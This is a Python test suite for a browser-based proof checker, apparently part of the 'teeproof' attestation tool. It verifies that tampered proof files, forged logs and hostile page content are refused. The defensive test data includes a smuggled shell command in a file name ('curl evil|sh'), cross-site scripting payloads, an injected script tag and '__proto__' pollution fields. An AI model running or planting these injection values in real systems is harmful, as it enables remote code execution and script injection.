"""The checker in the browser: it agrees with the command, and every changed byte turns it red."""

from __future__ import annotations

import base64
import json
import random
import re
import subprocess
import sys
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from teeproof.cli import export
from teeproof.cli.demo_proof import tell
from teeproof.core.clock import wall_clock
from teeproof.core.digests import sha256
from teeproof.core.errors import Malformed
from teeproof.evidence.nitro.chain import AWS_NITRO_ROOT
from teeproof.evidence.policy import parse_policy
from teeproof.evidence.policy_values import AMD_ROOTS, INTEL_ROOT
from teeproof.explorer import checker
from teeproof.explorer.checker import page, script, script_digest
from teeproof.proof.file import ProofFile
from teeproof.proof.file.ziplayout import MAX_MEMBERS
from teeproof.proof.file.zipwrite import ZipWriter
from teeproof.proof.log.formats.policy import TlogPolicy
from teeproof.proof.log.formats.vkey import VerifierKey
from teeproof.proof.verify import Trust, verify_proof
from teeproof.proof.workload import Identity
from tests.explorer import forging
from tests.explorer.checking import HARNESS, of, results, rewritten
from tests.explorer.checking import trusted as believed
from tests.explorer.chromium import dump
from tests.proof.people import attester
from tests.proof.people import policy as people_policy
from tests.vectors import ROOT

ANSWER = re.compile(r'<proof-check [^>]*data-answer="(\w+)"')
FLIPS = 200


@pytest.fixture(scope="module")
def told(tmp_path_factory):
    folder = tmp_path_factory.mktemp("told")
    tell(folder, wall_clock)
    return folder


@pytest.fixture(scope="module")
def proof(told):
    return next(told.glob("*.proof")).read_bytes()


@pytest.fixture(scope="module")
def policy(told):
    return parse_policy((told / "policy.toml").read_bytes())


@pytest.fixture(scope="module")
def logs(told):
    return (told / "trusted-logs").read_text()


def made(proof, policy=None, logs=""):
    roots = policy.simulated_roots if policy else ()
    return page(proof, name="answer.proof", title="Proof", roots=tuple(roots), logs=logs)


def opened(tmp_path, text):
    (tmp_path / "page.html").write_text(text)
    return dump(tmp_path / "page.html")


def trusted(policy, logs, now=None):
    return believed(policy, logs, wall_clock() if now is None else now)


def test_a_proof_holds_from_a_file_with_the_network_off(tmp_path, proof, policy, logs):
    document = opened(tmp_path, made(proof, policy, logs))
    assert ANSWER.search(document)[1] == "simulated"
    assert "SIMULATED machines" in document
    assert "the quorum cosigned" in document
    assert "Not checked here</summary>" in document
    assert "TCB and revocation" in document


@pytest.mark.parametrize(
    "spoil", [lambda text: text[:-1], lambda text: text + "quorum none\n",
              lambda text: text.replace("+", "+0", 1)],
    ids=["cut short", "two quorums", "a key that is none"],
)  # fmt: skip
def test_a_log_policy_that_is_none_is_not_the_proofs_fault(tmp_path, proof, policy, logs, spoil):
    """It is the reader's own trust: nothing is known of the file, and nothing is wrong with it."""
    with pytest.raises(Malformed):
        TlogPolicy.parse(spoil(logs))
    document = opened(tmp_path, made(proof, policy, spoil(logs)))
    assert ANSWER.search(document)[1] == "not_checked"
    assert "CANNOT TELL: the log policy that this page trusts cannot be read" in document


def test_a_witness_whose_name_is_no_utf_8_breaks_no_page(tmp_path, told, logs):
    (tmp_path / "logs").write_bytes(logs.encode().replace(b"w1", b"w\xff"))
    file = next(told.glob("*.proof"))
    text = export._page(file, policy=str(told / "policy.toml"), logs=tmp_path / "logs")
    assert "witness w\\xff one.example" in text
    assert ANSWER.search(opened(tmp_path, text))[1] == "simulated"


def test_stranger_names_a_file_and_a_step_to_mislead_whoever_opens_the_page(tmp_path):
    name, step = "x;curl evil|sh\udcff\u202e.proof", "</script><!--\u202e\u2066sdloH ✓"
    who = forging.workload()
    data = forging.proof_of(
        [forging.dumps(forging.body_of(who, predicate={"author": who.name, "step": step}))], who
    )
    text = page(data, name=name, title=f"Proof of {step}")
    assert "\u202e" not in text
    assert "\u2066" not in text
    assert text.count("<script") == 2
    assert "<pre>teeproof verify &#x27;x;curl evil|sh\\udcff\\u202e.proof&#x27;</pre>" in text
    assert "teeproof verify ./-x.proof" in page(data, name="-x.proof", title="x")
    document = opened(tmp_path, text)
    assert "\u202e" not in document
    assert "\\u{202e}\\u{2066}sdloH" in document  # in the list of what was checked


def test_a_root_that_nobody_accepted_is_refused(tmp_path, proof, logs):
    document = opened(tmp_path, made(proof, None, logs))
    assert ANSWER.search(document)[1] == "failed"
    assert "none that you accept" in document


def test_without_logs_that_one_trusts_the_log_is_not_checked(tmp_path, proof, policy):
    document = opened(tmp_path, made(proof, policy))
    assert ANSWER.search(document)[1] == "simulated"
    assert "you named no log that you trust" in document


def test_every_changed_byte_turns_it_red(tmp_path, proof, policy, logs):
    places = random.Random(7).sample(range(len(proof)), FLIPS)
    cases = [proof[:at] + bytes([proof[at] ^ 1]) + proof[at + 1 :] for at in places]
    found = results(tmp_path, HARNESS, [proof, *cases], trusted(policy, logs))
    assert found[0]["failed"] == []
    for at, one in zip(places, found[1:], strict=True):
        assert one.get("failed") or one["refused"] == "Refused", f"byte {at}: {one}"


def edit_payload(members):
    name = of(members, "statements/")[0]
    wire = json.loads(members[name])
    payload = base64.b64decode(wire["payload"]).replace(b'"step":"', b'"step":"x')
    wire["payload"] = base64.b64encode(payload).decode()
    members[name] = json.dumps(wire, separators=(",", ":"), sort_keys=True).encode()


def swap_quote(members):
    record = json.loads(members[of(members, "identities/")[0]])
    digest = record["attachments"]["quote"].removeprefix("sha256:")
    members[f"blobs/{digest}"] = b"\0" * 5000


def drop_identity(members):
    del members[of(members, "identities/")[0]]


def drop_statement(members):
    roots = json.loads(members["manifest.json"])["roots"]
    keep = {f"statements/{root.removeprefix('sha256:')}.json" for root in roots}
    del members[next(name for name in of(members, "statements/") if name not in keep)]


def add_a_root_of_trust(members):
    members["trust/roots.pem"] = b"mine"


def add_a_node(members):
    name = next(name for name in members if name.endswith("/nodes"))
    members[name] += bytes(32)


def move_an_entry(members):
    name = next(name for name in members if name.endswith("/entries.json"))
    entries = json.loads(members[name])
    entries[0]["salt"], entries[1]["salt"] = entries[1]["salt"], entries[0]["salt"]
    members[name] = json.dumps(entries, separators=(",", ":"), sort_keys=True).encode()


def mark_before(folder, *, part=""):
    def put_a_mark(members):
        name = next(n for n in of(members, folder) if part in n)
        members[name] = b"\xef\xbb\xbf" + members[name]

    return put_a_mark


def checkpoints(members):
    return [name for name in members if "/checkpoints/" in name]


def write_behind_a_checkpoint(members):
    members[checkpoints(members)[0]] += b"and nobody signed this"


def rename(change):
    def rename_members(members):
        kept = {change(name): data for name, data in members.items()}
        members.clear()
        members.update(kept)

    return rename_members


def nodes_name(members):
    return next(name for name in members if name.endswith("/nodes"))


def count_an_entry_that_is_in_no_log(index, *, nodes=0):
    """A statement that nobody logged, with an index that no leaf has, or another's."""

    def add(members):
        statement = members[of(members, "statements/")[0]]
        wire = json.loads(statement)
        payload = wire["payload"]
        body = json.loads(base64.b64decode(payload))
        body["subject"] = [{"digest": {"sha256": "00" * 32}, "name": "unlogged"}]
        payload = json.dumps(body, separators=(",", ":"), sort_keys=True).encode()
        wire["payload"] = base64.b64encode(payload).decode()
        # signed by nobody: what is looked at is the log's row alone
        digest = sha256(payload).hex()
        members[f"statements/{digest}.json"] = json.dumps(
            wire, separators=(",", ":"), sort_keys=True
        ).encode()
        name = nodes_name(members).replace("/nodes", "/entries.json")
        entries = json.loads(members[name])
        entries.insert(0, {"id": digest, "index": index, "kind": 1, "salt": "11" * 32})
        members[name] = json.dumps(entries, separators=(",", ":"), sort_keys=True).encode()
        members[nodes_name(members)] += bytes(32 * nodes)

    return add


def sign_as_something_else(members):
    name = of(members, "statements/")[0]
    members[name] = members[name].replace(b"application/vnd.in-toto+json", b"text/plain")


LOG_ATTACKS = {
    "a mark before a checkpoint": mark_before("log/", part="/checkpoints/"),
    "bytes behind a checkpoint": write_behind_a_checkpoint,
    "a mark before the entries": mark_before("log/", part="/entries.json"),
    "another log's folder": rename(lambda name: name.replace("log/demo.", "log/else.")),
    "another size's name": rename(
        lambda name: name[:-19] + "9" * 19 if "/checkpoints/" in name else name
    ),
    "the index of another entry": count_an_entry_that_is_in_no_log(0),
    "an index before the first": count_an_entry_that_is_in_no_log(-1, nodes=2),
    "an index between two": count_an_entry_that_is_in_no_log(0.5, nodes=1),
}


def say_more(folder, *way):
    """A field more than there is, in what nobody signed, at some place in a member's JSON."""

    def add_a_field(members):
        name = of(members, folder)[0]
        value = inner = json.loads(members[name])
        for step in way:
            inner = inner[step]
        inner["__proto__"] = {"certified": "by nobody"}
        members[name] = json.dumps(value, separators=(",", ":"), sort_keys=True).encode()

    return add_a_field


def name_a_root_twice(members):
    manifest = json.loads(members["manifest.json"])
    manifest["roots"] *= 2
    text = json.dumps(manifest, separators=(",", ":"), sort_keys=True)
    members["manifest.json"] = text.encode()


FILE_ATTACKS = {
    "a field more in the manifest": say_more("manifest"),
    "a field more in an envelope": say_more("statements/"),
    "a field more in a signature": say_more("statements/", "signatures", 0),
    "a field more in a record": say_more("identities/"),
    "a root twice": name_a_root_twice,
    "a mark before the manifest": mark_before("manifest"),
    "a mark before a statement": mark_before("statements/"),
    "a mark before an identity": mark_before("identities/"),
    "a member below a member": rename(
        lambda name: name + "/more" if name.startswith("statements/") else name
    ),
    "signed as something else": sign_as_something_else,
}

ATTACKS = [
    edit_payload,
    swap_quote,
    drop_identity,
    drop_statement,
    add_a_root_of_trust,
    add_a_node,
    move_an_entry,
]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, proof, policy, logs):
    folder = tmp_path_factory.mktemp("attacked")
    cases = [rewritten(proof, attack) for attack in ATTACKS]
    found = results(folder, HARNESS, cases, trusted(policy, logs))
    return dict(zip(ATTACKS, found, strict=True))


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_server_rewrites_the_file_well_and_is_found(attacked, attack):
    found = attacked[attack]
    assert found.get("failed") or found.get("refused") == "Refused", found


@pytest.fixture(scope="module")
def misread(tmp_path_factory, proof, policy, logs):
    attacks = LOG_ATTACKS | FILE_ATTACKS
    cases = [rewritten(proof, attack) for attack in attacks.values()]
    folder = tmp_path_factory.mktemp("misread")
    found = results(folder, HARNESS, cases, trusted(policy, logs))
    return dict(zip(attacks, found, strict=True))


@pytest.mark.parametrize("attack", LOG_ATTACKS | FILE_ATTACKS)
def test_server_writes_what_the_command_refuses(misread, attack):
    assert misread[attack].get("refused") == "Refused", misread[attack]


def test_what_is_in_no_log_is_said_to_be_in_none(tmp_path, proof, policy, logs):
    def add_another(members):
        # of a second demonstration: machines and statements that this log never saw
        roots = [json.loads(each["manifest.json"])["roots"] for each in (members, others)]
        for name, data in others.items():
            if name.split("/")[0] in ("statements", "identities", "blobs"):
                members[name] = data
        manifest = {"roots": sorted(roots[0] + roots[1]), "type": "urn:teeproof:proof:v1"}
        members["manifest.json"] = json.dumps(manifest, separators=(",", ":")).encode()

    (tmp_path / "other").mkdir()
    tell(tmp_path / "other", wall_clock)
    other = next((tmp_path / "other").glob("*.proof")).read_bytes()
    with zipfile.ZipFile(BytesIO(other)) as archive:
        others = {name: archive.read(name) for name in archive.namelist()}
    cases = [proof, rewritten(proof, add_another)]
    alone, mixed = results(tmp_path, HARNESS, cases, trusted(policy, logs))
    assert not any("is in no log" in detail for detail in alone["details"])
    # whoever names logs that they trust asks for an entry in one, as the command does
    assert "inclusion" in mixed["failed"]
    assert any("it is in no log, and you asked for one" in detail for detail in mixed["details"])
    alone, mixed = results(tmp_path, HARNESS, cases, trusted(policy, ""))
    assert "inclusion" not in mixed["failed"]
    assert any("it is in no log: nothing says" in detail for detail in mixed["details"])


@pytest.mark.parametrize("state", ["tpm-in-order", "cca-in-order", "azure-tdx-in-order"])
def test_host_machine_of_a_kind_that_is_not_checked_leaves_the_answer_open(tmp_path, state):
    path = tmp_path / "answer.proof"
    identity = Identity.boot(attester(at=wall_clock(), state=state))
    identity.seal("answer", outputs={"answer.txt": b"42"}).save(path)
    trust = {"roots": [], "logs": "", "now": int(wall_clock().timestamp())}
    (found,) = results(tmp_path, HARNESS, [path.read_bytes()], trust)
    assert found["failed"] == []
    assert found["answer"] == "not_checked"
    document = opened(tmp_path, made(path.read_bytes()))
    assert ANSWER.search(document)[1] == "not_checked"
    assert "Holds" not in re.sub(r"<script.*?</script>", "", document, flags=re.DOTALL)


def test_host_reads_the_memory_of_a_machine_in_debug_mode(tmp_path):
    cases = []
    for state in ("up-to-date", "debug"):
        path = tmp_path / f"{state}.proof"
        identity = Identity.boot(attester(at=wall_clock(), state=state))
        identity.seal("answer", outputs={"answer.txt": b"42"}).save(path)
        cases.append(path.read_bytes())
    trust = trusted(people_policy(), "")
    good, debug = results(tmp_path, HARNESS, cases, trust)
    assert (good["failed"], good["answer"]) == ([], "simulated")
    assert (debug["failed"], debug["answer"]) == (["debug"], "failed")


def test_a_file_that_is_only_written_again_holds(tmp_path, proof, policy, logs):
    case = rewritten(proof, lambda members: None)
    assert case == proof
    (found,) = results(tmp_path, HARNESS, [case], trusted(policy, logs))
    assert found["failed"] == []


def test_a_file_of_as_many_members_as_there_may_be_is_read(tmp_path):
    out = BytesIO()
    writer = ZipWriter(out)
    for number in range(MAX_MEMBERS):
        writer.add(f"blobs/{number:064x}", b"")
    writer.finish()
    harness = """
      const [given] = JSON.parse(document.getElementById("cases").textContent);
      const found = $zip.members($bytes.fromBase64(given));
      document.getElementById("out").textContent = String(found.size);
    """
    assert results(tmp_path, harness, [out.getvalue()]) == MAX_MEMBERS


def test_another_log_than_the_trusted_one_is_refused(tmp_path, proof, policy, logs):
    (written,) = re.findall(r"^log (\S+)", logs, re.MULTILINE)
    key = VerifierKey.parse(written)
    other = VerifierKey("other.example/log", key.algorithm, key.public_key).text()
    (found,) = results(tmp_path, HARNESS, [proof], trusted(policy, logs.replace(written, other)))
    assert found["answer"] == "failed"


def test_log_a_witness_of_the_future_does_not_count(tmp_path, proof, policy, logs):
    from datetime import timedelta

    early = wall_clock() - timedelta(days=1)
    (found,) = results(tmp_path, HARNESS, [proof], trusted(policy, logs, early))
    assert "witnesses" in found["failed"]


def test_the_command_says_the_same_of_the_same_file(proof, policy, logs):
    with ProofFile.from_bytes(proof) as opened_proof:
        trust = Trust(policy=policy, logs=TlogPolicy.parse(logs))
        assert verify_proof(opened_proof, now=wall_clock(), trust=trust).ok


def test_a_script_that_was_changed_does_not_run(tmp_path, proof, policy, logs):
    text = made(proof, policy, logs)
    lying = text.replace('return [["form", "failed", ', 'return [["form", "passed", ')
    assert lying != text
    document = opened(tmp_path, lying)
    assert ANSWER.search(document) is None
    assert "none ran" in document


def test_a_second_script_does_not_run(tmp_path, proof, policy):
    hostile = made(proof, policy).replace("<h1>", "<script>document.title = 'mine'</script><h1>")
    document = opened(tmp_path, hostile)
    assert "<title>mine" not in document
    assert ANSWER.search(document)[1] == "simulated"


HOSTILE = '</title><script>alert(1)</script>"><img src=x onerror=alert(2)>[[script]]\u202e'


def test_author_puts_markup_into_what_the_page_shows(tmp_path, proof, policy):
    text = page(proof, name=HOSTILE, title=HOSTILE, roots=tuple(policy.simulated_roots))
    assert text.count("<script") == 2
    assert "<img" not in text
    assert ANSWER.search(opened(tmp_path, text))[1] == "simulated"


def test_the_published_digest_is_the_scripts():
    published = (ROOT / "docs" / "reference" / "browser-check.md").read_text()
    assert script_digest() in published, "write the new digest into the page and the changelog"


def test_the_script_loads_nothing():
    assert "import(" not in script()
    assert re.search(r"^\s*(import|export) ", script(), re.MULTILINE) is None
    assert script().count("fetch(") == 1, "the proof file itself, where the page has none"
    assert "innerHTML" not in script()
    found = re.findall(r"^.*\beval\(.*$", script(), re.MULTILINE)
    assert found == ["eval(a, x, brp = false) {"], "a polynomial's, in fft.js"


def test_the_roots_are_the_ones_that_the_command_pins():
    text = (Path(checker.__file__).parent / "browser" / "roots.js").read_text()
    pinned = re.findall(r'"(sha256:[0-9a-f]{64})"', text)
    assert pinned == [INTEL_ROOT, *AMD_ROOTS, AWS_NITRO_ROOT]


def test_every_module_is_in_the_script():
    folder = Path(checker.__file__).parent / "browser"
    found = {str(path.relative_to(folder).with_suffix("")) for path in folder.rglob("*.js")}
    assert found == set(checker.MODULES)


def test_the_forms_of_statements_are_those_of_the_classes():
    command = [sys.executable, str(ROOT / "scripts" / "browser-forms"), "--print"]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    written = Path(checker.__file__).parent / "browser" / "predicates.js"
    assert written.read_text() == done.stdout, "run scripts/browser-forms"
